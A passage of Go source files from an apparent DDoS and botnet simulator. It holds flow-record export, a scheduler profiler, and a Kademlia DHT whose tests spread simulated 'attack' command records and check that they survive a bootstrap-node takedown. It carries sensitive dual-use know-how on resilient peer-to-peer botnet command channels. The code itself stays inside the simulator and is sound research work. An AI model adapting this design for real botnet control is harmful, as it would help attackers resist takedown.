	b.batches++
}

// Len reports how many records were exported.
func (b *FlowBuffer) Len() int {
	if b == nil {
		return 0
	}
	return len(b.recs)
}

// Batches reports how many export batches arrived — exporters batch
// records, so this stays well under Len.
func (b *FlowBuffer) Batches() int {
	if b == nil {
		return 0
	}
	return b.batches
}

// Records returns the accumulated records in export order. The slice
// is shared; callers must not mutate it.
func (b *FlowBuffer) Records() []FlowRecord {
	if b == nil {
		return nil
	}
	return b.recs
}

// flowLess is a total order over flow records: interval first, then
// the flow identity and accounting fields. Total means ties are
// impossible for distinct records, so a sort under it is a pure
// function of the record *set* — the property MergeFlowBuffers needs.
func flowLess(a, b *FlowRecord) bool {
	if a.StartUS != b.StartUS {
		return a.StartUS < b.StartUS
	}
	if a.EndUS != b.EndUS {
		return a.EndUS < b.EndUS
	}
	if a.Proto != b.Proto {
		return a.Proto < b.Proto
	}
	if c := a.Src.Addr().Compare(b.Src.Addr()); c != 0 {
		return c < 0
	}
	if a.Src.Port() != b.Src.Port() {
		return a.Src.Port() < b.Src.Port()
	}
	if c := a.Dst.Addr().Compare(b.Dst.Addr()); c != 0 {
		return c < 0
	}
	if a.Dst.Port() != b.Dst.Port() {
		return a.Dst.Port() < b.Dst.Port()
	}
	if a.Packets != b.Packets {
		return a.Packets < b.Packets
	}
	if a.Bytes != b.Bytes {
		return a.Bytes < b.Bytes
	}
	if a.TCPFlags != b.TCPFlags {
		return a.TCPFlags < b.TCPFlags
	}
	if a.Label != b.Label {
		return a.Label < b.Label
	}
	return a.Reason < b.Reason
}

// MergeFlowBuffers combines per-shard flow datasets into one buffer
// ordered by the total flow comparator, so the merged artifact is
// independent of how flows were partitioned across shards. Inputs are
// left untouched; batch counts are summed.
func MergeFlowBuffers(parts ...*FlowBuffer) *FlowBuffer {
	m := &FlowBuffer{}
	for _, p := range parts {
		if p == nil {
			continue
		}
		m.recs = append(m.recs, p.recs...)
		m.batches += p.batches
	}
	sort.SliceStable(m.recs, func(i, j int) bool { return flowLess(&m.recs[i], &m.recs[j]) })
	return m
}

// FlowStats condenses a flow dataset for reports.
type FlowStats struct {
	Flows   int             `json:"flows"`
	Packets uint64          `json:"packets"`
	Bytes   uint64          `json:"bytes"`
	Labels  []FlowLabelStat `json:"labels,omitempty"`
}

// FlowLabelStat aggregates one ground-truth label class.
type FlowLabelStat struct {
	Label   string `json:"label"`
	Flows   int    `json:"flows"`
	Packets uint64 `json:"packets"`
	Bytes   uint64 `json:"bytes"`
}

// Stats aggregates the buffer, with per-label classes sorted by label
// name for deterministic serialization.
func (b *FlowBuffer) Stats() FlowStats {
	var s FlowStats
	if b == nil {
		return s
	}
	byLabel := make(map[string]*FlowLabelStat)
	for i := range b.recs {
		r := &b.recs[i]
		s.Flows++
		s.Packets += r.Packets
		s.Bytes += r.Bytes
		ls := byLabel[r.Label]
		if ls == nil {
			ls = &FlowLabelStat{Label: r.Label}
			byLabel[r.Label] = ls
		}
		ls.Flows++
		ls.Packets += r.Packets
		ls.Bytes += r.Bytes
	}
	for _, ls := range byLabel {
		s.Labels = append(s.Labels, *ls)
	}
	sort.Slice(s.Labels, func(i, j int) bool { return s.Labels[i].Label < s.Labels[j].Label })
	return s
}

// FlowCSVHeader is the first line of the CSV artifact.
const FlowCSVHeader = "start_us,end_us,proto,src,dst,packets,bytes,tcp_flags,label,reason"

// WriteCSV renders the dataset as CSV, one record per line, in export
// order.
func (b *FlowBuffer) WriteCSV(w io.Writer) error {
	var sb strings.Builder
	sb.WriteString(FlowCSVHeader)
	sb.WriteByte('\n')
	if b != nil {
		for i := range b.recs {
			r := &b.recs[i]
			fmt.Fprintf(&sb, "%d,%d,%s,%s,%s,%d,%d,%d,%s,%s\n",
				r.StartUS, r.EndUS, r.Proto, r.Src, r.Dst,
				r.Packets, r.Bytes, r.TCPFlags, r.Label, r.Reason)
		}
	}
	_, err := io.WriteString(w, sb.String())
	return err
}

// flowJSON fixes the JSONL field order.
type flowJSON struct {
	StartUS  int64  `json:"start_us"`
	EndUS    int64  `json:"end_us"`
	Proto    string `json:"proto"`
	Src      string `json:"src"`
	Dst      string `json:"dst"`
	Packets  uint64 `json:"packets"`
	Bytes    uint64 `json:"bytes"`
	TCPFlags uint8  `json:"tcp_flags"`
	Label    string `json:"label"`
	Reason   string `json:"reason"`
}

// WriteJSONL renders the dataset as JSON Lines, one record per line,
// in export order.
func (b *FlowBuffer) WriteJSONL(w io.Writer) error {
	if b == nil {
		return nil
	}
	enc := json.NewEncoder(w)
	for i := range b.recs {
		r := &b.recs[i]
		row := flowJSON{
			StartUS: r.StartUS, EndUS: r.EndUS, Proto: r.Proto,
			Src: r.Src.String(), Dst: r.Dst.String(),
			Packets: r.Packets, Bytes: r.Bytes, TCPFlags: r.TCPFlags,
			Label: r.Label, Reason: r.Reason,
		}
		if err := enc.Encode(row); err != nil {
			return err
		}
	}
	return nil
}
