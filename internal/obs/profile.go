package obs

import (
	"fmt"
	"sort"
	"strings"
	"time"

	"ddosim/internal/sim"
)

// SourceLoad is one event source's share of delivered scheduler events.
type SourceLoad struct {
	Source string `json:"source"`
	Events uint64 `json:"events"`
}

// SecSample records how much work one simulated second cost: how many
// events it delivered and how long it took on the wall clock.
type SecSample struct {
	Sec    int64  `json:"sec"`
	Events uint64 `json:"events"`
	WallNS int64  `json:"wall_ns"`
}

// Profiler measures the discrete-event kernel itself: per-event-source
// delivery counts and wall-clock time per simulated second. Hook it
// into the scheduler with sim.Scheduler.SetHook (core does this
// automatically). Unlike the Tracer, the Profiler reads the wall clock
// — once per simulated-second boundary, never per event — so its
// samples are not deterministic and are kept out of trace and metrics
// dumps.
type Profiler struct {
	bySource    map[string]uint64
	total       uint64
	peakPending int

	clock     func() int64 // wall nanoseconds; injectable for tests
	curSec    int64
	secStart  int64 // wall ns at entry to curSec
	secEvents uint64
	started   bool
	samples   []SecSample
}

// NewProfiler returns a profiler using the real wall clock.
func NewProfiler() *Profiler {
	return &Profiler{
		bySource: make(map[string]uint64),
		clock:    func() int64 { return time.Now().UnixNano() },
	}
}

// SetClock replaces the wall-clock source (tests).
func (p *Profiler) SetClock(clock func() int64) {
	if p == nil || clock == nil {
		return
	}
	p.clock = clock
}

// OnEvent records one delivered scheduler event. It matches the
// sim.Scheduler hook signature. The wall clock is only read when at
// crosses into a new simulated second.
func (p *Profiler) OnEvent(at sim.Time, src string, pending int) {
	if p == nil {
		return
	}
	if src == "" {
		src = "unlabeled"
	}
	p.bySource[src]++
	p.total++
	if pending > p.peakPending {
		p.peakPending = pending
	}

	sec := int64(at / sim.Second)
	if !p.started {
		p.started = true
		p.curSec = sec
		p.secStart = p.clock()
		p.secEvents = 1
		return
	}
	if sec == p.curSec {
		p.secEvents++
		return
	}
	now := p.clock()
	p.samples = append(p.samples, SecSample{Sec: p.curSec, Events: p.secEvents, WallNS: now - p.secStart})
	p.curSec = sec
	p.secStart = now
	p.secEvents = 1
}

// TotalEvents reports how many events the profiler observed.
func (p *Profiler) TotalEvents() uint64 {
	if p == nil {
		return 0
	}
	return p.total
}

// PeakPending reports the deepest scheduler queue observed.
func (p *Profiler) PeakPending() int {
	if p == nil {
		return 0
	}
	return p.peakPending
}

// BySource returns a copy of the per-source delivery counts.
func (p *Profiler) BySource() map[string]uint64 {
	if p == nil {
		return nil
	}
	out := make(map[string]uint64, len(p.bySource))
	for k, v := range p.bySource {
		out[k] = v
	}
	return out
}

// Samples returns the closed per-second samples (the second in
// progress is not included).
func (p *Profiler) Samples() []SecSample {
	if p == nil {
		return nil
	}
	out := make([]SecSample, len(p.samples))
	copy(out, p.samples)
	return out
}

// TopSources returns the n busiest event sources, descending by count
// with name as the tiebreak.
func (p *Profiler) TopSources(n int) []SourceLoad {
	if p == nil {
		return nil
	}
	all := make([]SourceLoad, 0, len(p.bySource))
	for s, c := range p.bySource {
		all = append(all, SourceLoad{Source: s, Events: c})
	}
	sort.Slice(all, func(i, j int) bool {
		if all[i].Events != all[j].Events {
			return all[i].Events > all[j].Events
		}
		return all[i].Source < all[j].Source
	})
	if n < len(all) {
		all = all[:n]
	}
	return all
}

// MeanWallNSPerSimSec reports the mean wall-clock cost of one
// simulated second over all closed samples, or 0 with no samples.
func (p *Profiler) MeanWallNSPerSimSec() int64 {
	if p == nil || len(p.samples) == 0 {
		return 0
	}
	var sum int64
	for _, s := range p.samples {
		sum += s.WallNS
	}
	return sum / int64(len(p.samples))
}

// String renders a short profile report: totals and the top sources.
func (p *Profiler) String() string {
	if p == nil {
		return "profiler: off"
	}
	var b strings.Builder
	fmt.Fprintf(&b, "events delivered: %d (peak pending %d)\n", p.total, p.peakPending)
	if mean := p.MeanWallNSPerSimSec(); mean > 0 {
		fmt.Fprintf(&b, "wall per sim-second: %s\n", time.Duration(mean))
	}
	for _, s := range p.TopSources(8) {
		fmt.Fprintf(&b, "  %-20s %d\n", s.Source, s.Events)
	}
	return b.String()
}
