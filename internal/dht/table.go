package dht

import "sort"

// Table is the Kademlia routing table: IDBits k-buckets of contacts,
// bucket i holding peers whose distance from self has its highest set
// bit at position i. Each bucket is LRU-ordered — index 0 is the
// least-recently-seen contact, the tail the freshest — and holds at
// most k entries. The table itself never pings anyone: when a bucket
// is full, Seen reports the eviction candidate and the node layer
// decides by pinging it (Kademlia's "old contacts are good contacts"
// policy: a responsive oldie stays, the newcomer is dropped).
type Table struct {
	self    ID
	k       int
	buckets [IDBits][]Contact
	size    int
}

// NewTable builds the table for owner self with bucket capacity k.
func NewTable(self ID, k int) *Table {
	return &Table{self: self, k: k}
}

// Len reports the total number of contacts.
func (t *Table) Len() int { return t.size }

// SeenResult describes the outcome of observing a contact.
type SeenResult int

const (
	// SeenAdded: the contact entered (or refreshed) its bucket.
	SeenAdded SeenResult = iota
	// SeenFull: the bucket is full; the caller should ping the
	// eviction candidate and call Evict or ignore the newcomer.
	SeenFull
	// SeenSelf: the contact is the table owner; never stored.
	SeenSelf
)

// Seen records traffic from c. If its bucket is full and c is not
// already present, it reports SeenFull along with the
// least-recently-seen occupant as the eviction candidate.
func (t *Table) Seen(c Contact) (SeenResult, Contact) {
	idx := BucketIndex(t.self, c.ID)
	if idx < 0 {
		return SeenSelf, Contact{}
	}
	b := t.buckets[idx]
	for i := range b {
		if b[i].ID == c.ID {
			// Move to tail: freshest position.
			moved := b[i]
			copy(b[i:], b[i+1:])
			b[len(b)-1] = moved
			return SeenAdded, Contact{}
		}
	}
	if len(b) < t.k {
		t.buckets[idx] = append(b, c)
		t.size++
		return SeenAdded, Contact{}
	}
	return SeenFull, b[0]
}

// Evict removes id (the losing eviction candidate) and inserts
// replacement at the fresh end of the same bucket.
func (t *Table) Evict(id ID, replacement Contact) {
	idx := BucketIndex(t.self, id)
	if idx < 0 || idx != BucketIndex(t.self, replacement.ID) {
		return
	}
	b := t.buckets[idx]
	for i := range b {
		if b[i].ID == id {
			copy(b[i:], b[i+1:])
			b[len(b)-1] = replacement
			return
		}
	}
}

// Remove drops a dead contact.
func (t *Table) Remove(id ID) {
	idx := BucketIndex(t.self, id)
	if idx < 0 {
		return
	}
	b := t.buckets[idx]
	for i := range b {
		if b[i].ID == id {
			t.buckets[idx] = append(b[:i], b[i+1:]...)
			t.size--
			return
		}
	}
}

// Closest returns up to n contacts sorted by XOR distance to target
// (ties broken by ID bytes — a total order, so the result is
// deterministic regardless of insertion history).
func (t *Table) Closest(target ID, n int) []Contact {
	out := make([]Contact, 0, t.size)
	for i := range t.buckets {
		out = append(out, t.buckets[i]...)
	}
	sortByDistance(out, target)
	if len(out) > n {
		out = out[:n]
	}
	return out
}

// BucketLen reports the occupancy of bucket idx (refresh targeting).
func (t *Table) BucketLen(idx int) int { return len(t.buckets[idx]) }

func sortByDistance(cs []Contact, target ID) {
	sort.Slice(cs, func(i, j int) bool {
		di, dj := cs[i].ID.XOR(target), cs[j].ID.XOR(target)
		if di != dj {
			return di.Less(dj)
		}
		return string(cs[i].ID[:]) < string(cs[j].ID[:])
	})
}
