package dht

import (
	"fmt"
	"net/netip"
	"testing"

	"ddosim/internal/container"
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// ---------------------------------------------------------------------
// Pure unit tests

func TestXORMetricAndBuckets(t *testing.T) {
	a := DeriveID([]byte("a"))
	b := DeriveID([]byte("b"))
	if a.XOR(a) != (Distance{}) || !a.XOR(a).IsZero() {
		t.Fatal("self-distance must be zero")
	}
	if a.XOR(b) != b.XOR(a) {
		t.Fatal("XOR metric must be symmetric")
	}
	if BucketIndex(a, a) != -1 {
		t.Fatal("identical IDs have no bucket")
	}
	// Flipping exactly the top bit lands in the top bucket; the bottom
	// bit in bucket 0.
	top := a
	top[0] ^= 0x80
	if got := BucketIndex(a, top); got != IDBits-1 {
		t.Fatalf("top-bit bucket = %d, want %d", got, IDBits-1)
	}
	bottom := a
	bottom[IDBytes-1] ^= 0x01
	if got := BucketIndex(a, bottom); got != 0 {
		t.Fatalf("bottom-bit bucket = %d, want 0", got)
	}
}

func TestRandomIDInBucketLandsInBucket(t *testing.T) {
	self := DeriveID([]byte("self"))
	seq := byte(0)
	randByte := func() byte { seq += 37; return seq }
	for _, idx := range []int{0, 1, 7, 8, 63, 100, IDBits - 1} {
		got := RandomIDInBucket(self, idx, randByte)
		if bi := BucketIndex(self, got); bi != idx {
			t.Fatalf("bucket %d: generated ID lands in bucket %d", idx, bi)
		}
	}
}

func TestProtoRoundTrip(t *testing.T) {
	sender := DeriveID([]byte("s"))
	key := Key("cmd")
	c1 := Contact{ID: DeriveID([]byte("c1")), Addr: netip.MustParseAddrPort("10.0.0.1:6881")}
	c2 := Contact{ID: DeriveID([]byte("c2")), Addr: netip.MustParseAddrPort("[2001:db8::2]:6881")}
	msgs := []*Message{
		{Type: tPing, RPC: 7, Sender: sender},
		{Type: tPong, RPC: 7, Sender: sender},
		{Type: tFindNode, RPC: 9, Sender: sender, Target: key},
		{Type: tFindValue, RPC: 10, Sender: sender, Target: key},
		{Type: tNodes, RPC: 9, Sender: sender, Contacts: []Contact{c1, c2}},
		{Type: tStore, RPC: 11, Sender: sender, Key: key, Seq: 42, Value: []byte("attack-record")},
		{Type: tValue, RPC: 12, Sender: sender, Key: key, Seq: 42, Value: []byte("attack-record")},
		{Type: tStoreOK, RPC: 11, Sender: sender, Key: key},
	}
	for _, m := range msgs {
		got, err := Decode(m.Encode())
		if err != nil {
			t.Fatalf("type %d: %v", m.Type, err)
		}
		if got.Type != m.Type || got.RPC != m.RPC || got.Sender != m.Sender ||
			got.Target != m.Target || got.Key != m.Key || got.Seq != m.Seq ||
			string(got.Value) != string(m.Value) || len(got.Contacts) != len(m.Contacts) {
			t.Fatalf("type %d: round trip mismatch: %+v vs %+v", m.Type, got, m)
		}
		for i := range got.Contacts {
			if got.Contacts[i] != m.Contacts[i] {
				t.Fatalf("type %d: contact %d mismatch", m.Type, i)
			}
		}
	}
	if _, err := Decode([]byte{1, 2}); err == nil {
		t.Fatal("short datagram must fail to decode")
	}
	if _, err := Decode((&Message{Type: 99}).Encode()); err == nil {
		t.Fatal("unknown type must fail to decode")
	}
}

func TestTableLRUAndEviction(t *testing.T) {
	self := ID{} // zero ID makes bucket geometry easy to steer
	tab := NewTable(self, 2)

	// Three contacts in the same (top) bucket: high bit set.
	mk := func(b byte) Contact {
		var id ID
		id[0] = 0x80 | b
		return Contact{ID: id, Addr: netip.MustParseAddrPort(fmt.Sprintf("10.0.0.%d:6881", b+1))}
	}
	c1, c2, c3 := mk(1), mk(2), mk(3)
	if res, _ := tab.Seen(c1); res != SeenAdded {
		t.Fatal("c1 not added")
	}
	if res, _ := tab.Seen(c2); res != SeenAdded {
		t.Fatal("c2 not added")
	}
	res, oldest := tab.Seen(c3)
	if res != SeenFull || oldest.ID != c1.ID {
		t.Fatalf("full bucket: res=%v oldest=%v, want SeenFull/c1", res, oldest.ID)
	}
	// Refreshing c1 moves it to the fresh end; now c2 is the candidate.
	if res, _ := tab.Seen(c1); res != SeenAdded {
		t.Fatal("refreshing a resident must succeed")
	}
	if _, oldest := tab.Seen(c3); oldest.ID != c2.ID {
		t.Fatalf("after LRU refresh the candidate should be c2, got %v", oldest.ID)
	}
	// Evict c2 for c3.
	tab.Evict(c2.ID, c3)
	if tab.Len() != 2 {
		t.Fatalf("table len = %d, want 2", tab.Len())
	}
	got := tab.Closest(self, 4)
	if len(got) != 2 {
		t.Fatalf("closest returned %d contacts", len(got))
	}
	for _, c := range got {
		if c.ID == c2.ID {
			t.Fatal("evicted contact still present")
		}
	}
	// Closest ordering is by XOR distance.
	if d1, d2 := got[0].ID.XOR(self), got[1].ID.XOR(self); d2.Less(d1) {
		t.Fatal("Closest not sorted by distance")
	}
	tab.Remove(c3.ID)
	if tab.Len() != 1 {
		t.Fatalf("after Remove len = %d, want 1", tab.Len())
	}
	if res, _ := tab.Seen(Contact{ID: self}); res != SeenSelf {
		t.Fatal("self must never enter the table")
	}
}

// ---------------------------------------------------------------------
// Overlay integration tests (real processes on a simulated star)

// dhtDaemon hosts a Node inside a container process.
type dhtDaemon struct {
	cfg  Config
	node *Node
}

func (d *dhtDaemon) Name() string { return "dhtd" }
func (d *dhtDaemon) Start(p *container.Process) {
	d.node = New(p, d.cfg)
	if err := d.node.Start(p.Node().Addr4()); err != nil {
		panic(err)
	}
}
func (d *dhtDaemon) Stop(*container.Process) { d.node.Close() }

type overlay struct {
	sched *sim.Scheduler
	nodes []*Node
	conts []*container.Container
}

// runFor advances the scheduler by d from its current clock.
func (o *overlay) runFor(t *testing.T, d sim.Time) {
	t.Helper()
	if err := o.sched.Run(o.sched.Now() + d); err != nil {
		t.Fatal(err)
	}
}

func newOverlay(t *testing.T, seed int64, n int, cfg Config) *overlay {
	t.Helper()
	sched := sim.NewScheduler(seed)
	star := netsim.NewStar(netsim.New(sched))
	eng := container.NewEngine(sched, star)
	o := &overlay{sched: sched}
	for i := 0; i < n; i++ {
		name := fmt.Sprintf("peer-%d", i)
		img := &container.Image{
			Name: "ddosim/" + name, Tag: "t", Arch: "x86_64",
			Files: map[string][]byte{}, ExecPaths: map[string]bool{},
		}
		eng.RegisterImage(img)
		c, err := eng.Create("ddosim/"+name+":t", name,
			container.LinkConfig{Rate: 10 * netsim.Mbps, Delay: sim.Millisecond})
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
		d := &dhtDaemon{cfg: cfg}
		c.Spawn(d)
		o.nodes = append(o.nodes, d.node)
		o.conts = append(o.conts, c)
	}
	// Everyone bootstraps off node 0, staggered a little.
	boot := []netip.AddrPort{o.nodes[0].Addr()}
	for i := 1; i < n; i++ {
		node := o.nodes[i]
		sched.Schedule(sim.Time(i)*100*sim.Millisecond, func() {
			node.Join(boot, nil)
		})
	}
	return o
}

func TestJoinPutGetAcrossOverlay(t *testing.T) {
	o := newOverlay(t, 21, 12, Config{})
	o.runFor(t, 30*sim.Second)

	for i, n := range o.nodes {
		if n.TableLen() == 0 {
			t.Fatalf("node %d has an empty routing table after join", i)
		}
	}

	// Publish from node 3, resolve from node 9.
	key := Key("cmd")
	acked := -1
	o.nodes[3].Put(key, []byte("attack v1"), 1, func(a int) { acked = a })
	o.runFor(t, 10*sim.Second)
	if acked <= 0 {
		t.Fatalf("Put acked by %d replicas, want > 0", acked)
	}

	var gotVal string
	var gotSeq uint64
	found := false
	o.nodes[9].Get(key, func(v []byte, seq uint64, ok bool) {
		gotVal, gotSeq, found = string(v), seq, ok
	})
	o.runFor(t, 10*sim.Second)
	if !found || gotVal != "attack v1" || gotSeq != 1 {
		t.Fatalf("Get = (%q, %d, %v), want (attack v1, 1, true)", gotVal, gotSeq, found)
	}

	// A fresher sequence supersedes; a stale one is refused.
	o.nodes[3].Put(key, []byte("attack v2"), 2, nil)
	o.runFor(t, 10*sim.Second)
	holder := o.nodes[9]
	if !holder.StoreLocal(key, []byte("attack v2"), 2) {
		t.Fatal("equal-or-newer seq must be accepted")
	}
	if holder.StoreLocal(key, []byte("stale"), 1) {
		t.Fatal("stale seq must be refused")
	}
	if v, seq, ok := holder.Local(key); !ok || string(v) != "attack v2" || seq != 2 {
		t.Fatalf("local record = (%q, %d, %v) after supersede", v, seq, ok)
	}
}

func TestGetPathCachesRecord(t *testing.T) {
	o := newOverlay(t, 21, 12, Config{})
	o.runFor(t, 30*sim.Second)

	key := Key("cmd")
	o.nodes[3].Put(key, []byte("rec"), 1, nil)
	o.runFor(t, 10*sim.Second)

	before := 0
	for _, n := range o.nodes {
		if _, _, ok := n.Local(key); ok {
			before++
		}
	}
	// Every node polls once; path caching should spread copies beyond
	// the original K-closest replica set.
	for _, n := range o.nodes {
		n.Get(key, nil)
	}
	o.runFor(t, 20*sim.Second)
	after := 0
	for _, n := range o.nodes {
		if _, _, ok := n.Local(key); ok {
			after++
		}
	}
	if after <= before {
		t.Fatalf("path caching did not spread the record: %d -> %d holders", before, after)
	}
}

func TestOverlaySurvivesBootstrapDeath(t *testing.T) {
	o := newOverlay(t, 21, 12, Config{RefreshPeriod: 20 * sim.Second})
	o.runFor(t, 30*sim.Second)

	key := Key("cmd")
	o.nodes[3].Put(key, []byte("persisted"), 1, nil)
	o.runFor(t, 10*sim.Second)

	// Kill the bootstrap node outright — the takedown analogue.
	o.conts[0].Node().DefaultDevice().SetUp(false)

	o.runFor(t, 2*sim.Minute)
	found := false
	o.nodes[7].Get(key, func(v []byte, _ uint64, ok bool) { found = ok && string(v) == "persisted" })
	o.runFor(t, 10*sim.Second)
	if !found {
		t.Fatal("record unreachable after bootstrap death")
	}
}

func TestOverlayDeterministicAcrossRuns(t *testing.T) {
	sig := func() string {
		o := newOverlay(t, 21, 10, Config{})
		o.runFor(t, 30*sim.Second)
		key := Key("cmd")
		o.nodes[2].Put(key, []byte("det"), 1, nil)
		o.runFor(t, 10*sim.Second)
		for _, n := range o.nodes {
			n.Get(key, nil)
		}
		o.runFor(t, 10*sim.Second)
		s := ""
		for i, n := range o.nodes {
			_, _, held := n.Local(key)
			s += fmt.Sprintf("%d:%d:%d:%d:%v;", i, n.TableLen(), n.RPCsSent, n.RPCsTimedOut, held)
		}
		return s
	}
	a, b := sig(), sig()
	if a != b {
		t.Fatalf("same-seed overlay runs diverged:\n%s\n%s", a, b)
	}
}
