package dht

import (
	"encoding/binary"
	"fmt"
	"net/netip"
)

// Message types. Requests carry an rpc id the response echoes;
// FIND_VALUE is answered by tValue when the peer holds the record and
// by tNodes (its K closest to the key) when it does not — the standard
// Kademlia either/or.
const (
	tPing byte = iota + 1
	tPong
	tFindNode // payload: target ID
	tNodes    // payload: contact list
	tFindValue
	tValue // payload: key, seq, value bytes
	tStore // payload: key, seq, value bytes
	tStoreOK
)

// Contact is a routing-table entry: a peer's overlay ID and its UDP
// endpoint. The ID is always NodeID(Addr); it travels on the wire
// anyway so table maintenance never recomputes hashes on the hot path.
type Contact struct {
	ID   ID
	Addr netip.AddrPort
}

// Message is one DHT datagram, either direction.
type Message struct {
	Type   byte
	RPC    uint32
	Sender ID

	Target   ID        // tFindNode, tFindValue
	Contacts []Contact // tNodes
	Key      ID        // tStore, tStoreOK, tValue
	Seq      uint64    // tStore, tValue
	Value    []byte    // tStore, tValue
}

const headerLen = 1 + 4 + IDBytes

// Encode serializes the message into a fresh buffer (the netsim UDP
// layer carries the slice by reference, so encode buffers are never
// reused).
func (m *Message) Encode() []byte {
	buf := make([]byte, 0, headerLen+64)
	buf = append(buf, m.Type)
	buf = binary.BigEndian.AppendUint32(buf, m.RPC)
	buf = append(buf, m.Sender[:]...)
	switch m.Type {
	case tFindNode, tFindValue:
		buf = append(buf, m.Target[:]...)
	case tNodes:
		buf = append(buf, byte(len(m.Contacts)))
		for _, c := range m.Contacts {
			buf = append(buf, c.ID[:]...)
			buf = appendAddrPort(buf, c.Addr)
		}
	case tStore, tValue:
		buf = append(buf, m.Key[:]...)
		buf = binary.BigEndian.AppendUint64(buf, m.Seq)
		buf = binary.BigEndian.AppendUint16(buf, uint16(len(m.Value)))
		buf = append(buf, m.Value...)
	case tStoreOK:
		buf = append(buf, m.Key[:]...)
	}
	return buf
}

func appendAddrPort(buf []byte, ap netip.AddrPort) []byte {
	if ap.Addr().Is4() {
		a := ap.Addr().As4()
		buf = append(buf, 4)
		buf = append(buf, a[:]...)
	} else {
		a := ap.Addr().As16()
		buf = append(buf, 16)
		buf = append(buf, a[:]...)
	}
	return binary.BigEndian.AppendUint16(buf, ap.Port())
}

// Decode parses a datagram. Malformed input returns an error; the
// node drops such datagrams silently (an overlay peer cannot be
// trusted to speak the protocol).
func Decode(data []byte) (*Message, error) {
	if len(data) < headerLen {
		return nil, fmt.Errorf("dht: short message (%d bytes)", len(data))
	}
	m := &Message{Type: data[0], RPC: binary.BigEndian.Uint32(data[1:5])}
	copy(m.Sender[:], data[5:headerLen])
	rest := data[headerLen:]
	switch m.Type {
	case tPing, tPong:
	case tFindNode, tFindValue:
		if len(rest) < IDBytes {
			return nil, fmt.Errorf("dht: truncated find")
		}
		copy(m.Target[:], rest)
	case tNodes:
		if len(rest) < 1 {
			return nil, fmt.Errorf("dht: truncated nodes")
		}
		n := int(rest[0])
		rest = rest[1:]
		m.Contacts = make([]Contact, 0, n)
		for i := 0; i < n; i++ {
			if len(rest) < IDBytes+1 {
				return nil, fmt.Errorf("dht: truncated contact")
			}
			var c Contact
			copy(c.ID[:], rest)
			rest = rest[IDBytes:]
			alen := int(rest[0])
			rest = rest[1:]
			if (alen != 4 && alen != 16) || len(rest) < alen+2 {
				return nil, fmt.Errorf("dht: bad contact address")
			}
			addr, ok := netip.AddrFromSlice(rest[:alen])
			if !ok {
				return nil, fmt.Errorf("dht: bad contact address")
			}
			port := binary.BigEndian.Uint16(rest[alen:])
			rest = rest[alen+2:]
			c.Addr = netip.AddrPortFrom(addr, port)
			m.Contacts = append(m.Contacts, c)
		}
	case tStore, tValue:
		if len(rest) < IDBytes+8+2 {
			return nil, fmt.Errorf("dht: truncated record")
		}
		copy(m.Key[:], rest)
		rest = rest[IDBytes:]
		m.Seq = binary.BigEndian.Uint64(rest)
		vlen := int(binary.BigEndian.Uint16(rest[8:]))
		rest = rest[10:]
		if len(rest) < vlen {
			return nil, fmt.Errorf("dht: truncated value")
		}
		// Copy out of the packet buffer: the record outlives the
		// datagram delivery.
		m.Value = append([]byte(nil), rest[:vlen]...)
	case tStoreOK:
		if len(rest) < IDBytes {
			return nil, fmt.Errorf("dht: truncated store-ok")
		}
		copy(m.Key[:], rest)
	default:
		return nil, fmt.Errorf("dht: unknown message type %d", m.Type)
	}
	return m, nil
}
