package dht

import (
	"net/netip"

	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// Host is what a DHT node needs from its runtime; *container.Process
// satisfies it, and tests provide a bare-node shim. Everything a node
// does runs on its host's own scheduler (its own LP under the sharded
// kernel) — the package never touches another node's state except
// through the wire.
type Host interface {
	Sched() *sim.Scheduler
	Alive() bool
	BindUDP(port uint16, h netsim.DatagramHandler) (*netsim.UDPSocket, error)
	NewTicker(period sim.Time, fn func()) *sim.Ticker
	Logf(format string, args ...any)
}

// DefaultPort is the overlay's UDP port when Config.Port is zero
// (the BitTorrent DHT's).
const DefaultPort uint16 = 6881

// Config tunes a node. Zero values take the defaults below.
type Config struct {
	// Port is the overlay's UDP port (default DefaultPort).
	Port uint16
	// K is the bucket size and replication factor (default 8).
	K int
	// Alpha is the lookup concurrency (default 3).
	Alpha int
	// RPCTimeout is how long an unanswered request waits before its
	// peer is considered unresponsive (default 2 s).
	RPCTimeout sim.Time
	// RefreshPeriod drives the bucket-refresh ticker (default 120 s).
	// Each firing refreshes one bucket chosen round-robin among
	// non-empty candidates, keeping per-tick cost constant.
	RefreshPeriod sim.Time
}

func (c *Config) fill() {
	if c.Port == 0 {
		c.Port = DefaultPort
	}
	if c.K <= 0 {
		c.K = 8
	}
	if c.Alpha <= 0 {
		c.Alpha = 3
	}
	if c.RPCTimeout <= 0 {
		c.RPCTimeout = 2 * sim.Second
	}
	if c.RefreshPeriod <= 0 {
		c.RefreshPeriod = 120 * sim.Second
	}
}

// record is one stored key/value with its freshness sequence.
type record struct {
	value []byte
	seq   uint64
}

// pending is an in-flight RPC awaiting its response.
type pending struct {
	onReply   func(*Message)
	onTimeout func()
	timer     sim.EventID
}

// Node is one Kademlia participant.
type Node struct {
	host Host
	cfg  Config
	id   ID
	addr netip.AddrPort
	sock *netsim.UDPSocket

	table *Table
	// store is the record map; access is always direct-keyed (no
	// iteration), so map order can never leak into behaviour.
	store map[ID]*record

	pendingRPC map[uint32]*pending
	rpcSeq     uint32

	// evicting marks buckets with an eviction ping in flight so a
	// burst of newcomers can't stampede the same oldie.
	evicting map[int]bool

	refreshTicker *sim.Ticker
	refreshCursor int

	// OnStore observes accepted STOREs (the p2pbot layer hooks command
	// arrival here).
	OnStore func(key ID, value []byte, seq uint64)

	// OnContact observes every peer a datagram arrives from, before
	// table admission — the seeder's recruitment census hooks here.
	OnContact func(Contact)

	// Counters for tests and reports.
	RPCsSent     uint64
	RPCsTimedOut uint64
	StoresHeld   int
}

// New builds a node; Start brings it onto the wire.
func New(host Host, cfg Config) *Node {
	cfg.fill()
	return &Node{
		host:       host,
		cfg:        cfg,
		store:      make(map[ID]*record),
		pendingRPC: make(map[uint32]*pending),
		evicting:   make(map[int]bool),
	}
}

// Start binds the overlay socket and derives the node's ID from the
// bound endpoint.
func (n *Node) Start(addr netip.Addr) error {
	sock, err := n.host.BindUDP(n.cfg.Port, n.onDatagram)
	if err != nil {
		return err
	}
	n.sock = sock
	n.addr = netip.AddrPortFrom(addr, n.cfg.Port)
	n.id = NodeID(n.addr)
	n.table = NewTable(n.id, n.cfg.K)
	n.refreshTicker = n.host.NewTicker(n.cfg.RefreshPeriod, n.refreshTick)
